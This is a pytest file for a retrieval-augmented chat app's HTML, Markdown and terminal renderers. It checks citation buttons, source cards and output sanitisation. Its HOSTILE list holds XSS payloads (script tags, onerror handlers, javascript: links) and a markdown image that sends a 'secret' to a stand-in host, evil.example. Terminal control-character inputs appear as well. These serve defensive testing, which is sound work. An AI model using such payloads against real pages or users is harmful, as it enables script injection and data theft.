"""Answers as HTML, Markdown and terminal text: right, and safe whatever a document, a name or a model says."""

from __future__ import annotations

import re
from dataclasses import replace
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from rag_chat.render import (
    answer_html,
    answer_markdown,
    answer_text,
    passages_html,
    seconds_text,
    sources_html,
    visible,
)
from rag_chat.types import Answer, Candidate, Chunk, Citation, Passage, Sentence, Span

PAGE = "Tides rise twice a day. The pump lifts 40 litres \na minute. It needs oil."
QUOTE = "The pump lifts 40 litres \na minute."
START = PAGE.index(QUOTE)

HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "</details><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)",
    "<a href='javascript:alert(1)'>x</a>",
    "![](https://evil.example/?q=secret)",
    "[click](javascript:alert(1))",
    "<style>body{display:none}</style>",
    "{{constructor}} ${alert(1)} {0} {document}",
    "&lt;script&gt;",
]


def passage(number: int = 1, document: str = "pump.pdf", text: str = PAGE, heading: str = "2 Pumps") -> Passage:
    chunk = Chunk(f"c{number}", "a" * 64, number, (Span(4, 0, len(text)),), heading, text)
    return Passage(number, Candidate(chunk, document, "iv", number, 0.934, 14, 0.412))


def citation(**changes) -> Citation:
    made = Citation(1, "pump.pdf", "a" * 64, 4, "iv", QUOTE, START, START + len(QUOTE), ((1, 2, 3, 4),), 0.9, True)
    return replace(made, **changes)


def answer(**changes) -> Answer:
    text = "The pump lifts 40 litres a minute. [1]"
    sentences = (Sentence("The pump lifts 40 litres a minute.", 0, True),)
    made = Answer(
        "How much?", "How much?", text, False, sentences, (citation(),), (passage(), passage(2, text="Other."))
    )
    return replace(made, **changes)


def url(shown) -> str:
    return "/pages/x.png?start=1&end=2"


class Tags(HTMLParser):
    """Every tag with its attributes, and whether each is closed."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.seen.append((tag, dict(attrs)))
        if tag != "img":
            self.open.append(tag)

    def handle_endtag(self, tag):
        assert self.open.pop() == tag, f"</{tag}> closes something else"


def test_marker_becomes_a_button_that_names_its_source_and_card():
    tags = Tags(answer_html(answer(), turn=3))
    button = next(attributes for tag, attributes in tags.seen if tag == "button")
    assert button["data-card"] == "source-3-1"
    assert button["aria-label"] == "Source 1: pump.pdf, page iv (4 of the file)"
    assert ">[1]</button>" in answer_html(answer(), turn=3)


def test_marker_without_a_citation_stays_text():
    html = answer_html(answer(text="See [7] and [1].", sentences=(), citations=(citation(),)))
    assert "See [7] and <button" in html


def test_two_sentences_of_one_passage_point_at_their_own_quotes():
    second = citation(quote="It needs oil.", start=PAGE.index("It needs"), end=len(PAGE))
    text = "It lifts 40 litres. [1] It needs oil. [1]"
    sentences = (Sentence("It lifts 40 litres.", 0, True), Sentence("It needs oil.", 1, True))
    both = answer(text=text, sentences=sentences, citations=(citation(), second))
    buttons = [attributes["data-citation"] for tag, attributes in Tags(answer_html(both)).seen if tag == "button"]
    assert buttons == ["0", "1"]
    assert sources_html(both, url).count("<mark") == 2


def test_unsupported_sentence_is_marked_and_only_that_one():
    text = "It is blue. The pump lifts 40 litres a minute. [1]"
    sentences = (Sentence("It is blue.", None, False), Sentence("The pump lifts 40 litres a minute.", 0, True))
    html = answer_html(answer(text=text, sentences=sentences))
    assert html.count('class="unsupported"') == 1
    assert ">It is blue.</span>" in html


def test_source_card_shows_document_page_ranks_scores_verdict_and_marked_quote():
    html = sources_html(answer(), url, turn=2)
    for part in (
        "pump.pdf",
        "page iv (4 of the file)",
        "rank 14 → 1",
        "first stage 0.412",
        "final 0.93",
        ">supported<",
    ):
        assert part in html
    assert "Tides rise twice a day. <mark" in html
    assert ">The pump lifts 40 litres a minute.</mark> It needs oil." in html
    assert 'id="source-2-1"' in html
    assert 'data-src="/pages/x.png?start=1&amp;end=2"' in html
    assert " src=" not in html  # nothing loads before a card is opened


def test_passages_that_are_not_cited_are_folded():
    html = sources_html(answer(), url)
    assert "Also retrieved (1)" in html
    assert html.index("Also retrieved") < html.index("Other.")


def test_abstention_shows_the_nearest_passages_unfolded():
    html = sources_html(answer(abstained=True, citations=(), sentences=(), text="They do not say."), url)
    assert "nearest passages" in html
    assert "Also retrieved" not in html
    assert html.count('class="card"') == 2


def test_quote_that_is_not_in_its_passage_is_shown_apart_and_never_marked_elsewhere():
    html = sources_html(answer(citations=(citation(page=5),)), url)
    assert 'class="apart"' in html
    assert html.count("<mark") == 1


def test_quote_without_boxes_says_so():
    assert "cannot be boxed exactly" in sources_html(answer(citations=(citation(boxes=()),)), url)
    assert "cannot be boxed" not in sources_html(answer(), url)


def test_rank_of_a_candidate_that_stage_one_did_not_return():
    bare = replace(passage().candidate, stage1_rank=None, stage1_score=None)
    html = passages_html([Passage(1, bare)], url)
    assert "rank – → 1" in html
    assert "not in its list" in html


@pytest.mark.parametrize("bad", HOSTILE)
def test_nothing_foreign_becomes_a_tag_or_an_attribute(bad):
    text = f"{PAGE} {bad}"
    hostile = answer(
        question=bad,
        text=f"{bad} [1]",
        sentences=(Sentence(bad, 0, False),),
        citations=(citation(document=bad, page_label=bad, quote=text, start=0, end=len(text)),),
        passages=(passage(document=bad, text=text, heading=bad), passage(2, document=bad, text=bad, heading=bad)),
    )
    allowed = {"div", "span", "button", "section", "details", "summary", "p", "blockquote", "mark", "figure", "img",
               "figcaption"}  # fmt: skip
    for html in (answer_html(hostile), sources_html(hostile, url), passages_html(hostile.passages, url)):
        tags = Tags(html)
        assert not tags.open
        assert {tag for tag, _ in tags.seen} <= allowed
        assert not [
            name for _, attributes in tags.seen for name in attributes if name.startswith("on") or name == "href"
        ]
        assert not [attributes for tag, attributes in tags.seen if tag == "img" and "src" in attributes]


@pytest.mark.parametrize("bad", [*HOSTILE, "http://evil.example www.evil.example a@evil.example", "# h\n- [ ] x\n> q"])
def test_markdown_has_no_link_image_or_tag_of_a_document(bad):
    hostile = answer(text=f"{bad} [1]", citations=(citation(document=bad, quote=bad),))
    written = answer_markdown(hostile)
    tokens = [part for token in MarkdownIt("commonmark").parse(written) for part in (token, *(token.children or ()))]
    assert not {token.type for token in tokens} & {"link_open", "image", "html_block", "html_inline", "heading_open"}
    assert not re.search(r"(?<!\\)://|www\.|(?<!\\)@", written)  # what other renderers make links of unasked


def test_terminal_text_has_no_control_characters():
    text = answer_text(answer(text="\x1b[2Jgone \u202eevil [1]", citations=(citation(quote="\x9b31mred"),)))
    assert "\x1b" not in text
    assert "\x9b" not in text
    assert "\u202e" not in text
    assert "[1] pump.pdf, page iv (4 of the file)" in text


def test_visible_keeps_text_of_every_language():
    assert visible("Zoë 東京 שלום\n\tx") == "Zoë 東京 שלום\n\tx"


def test_seconds_are_named_in_the_order_of_the_work():
    seconds = {"total": 2.0, "first_token": 0.9, "rerank": 0.31, "retrieve": 0.042, "other": 1}
    assert seconds_text(seconds) == "retrieve 0.04 s · rerank 0.31 s · first word 0.90 s · total 2.00 s"
